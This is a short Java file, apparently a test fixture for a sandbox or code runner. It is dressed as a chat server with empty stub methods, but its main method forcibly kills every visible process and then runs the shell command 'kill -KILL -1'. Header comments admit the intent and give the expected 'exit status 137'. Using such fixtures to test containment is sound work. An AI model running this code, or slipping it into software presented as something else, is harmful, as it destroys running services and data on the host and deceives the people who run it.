// Tries to kill every process that it can see.
// Says: the program ended with exit status 137
package chatlab.server;

import java.io.Closeable;
import java.io.IOException;

public final class ChatServer implements Closeable {
    public ChatServer(String host, int port) throws IOException {}

    public void run() {}

    @Override
    public void close() {}

    public static void main(String[] arguments) throws Exception {
        ProcessHandle.allProcesses().forEach(process -> {
            if (!process.equals(ProcessHandle.current())) {
                process.destroyForcibly();
            }
        });
        new ProcessBuilder("/bin/sh", "-c", "kill -KILL -1").start().waitFor();
    }
}
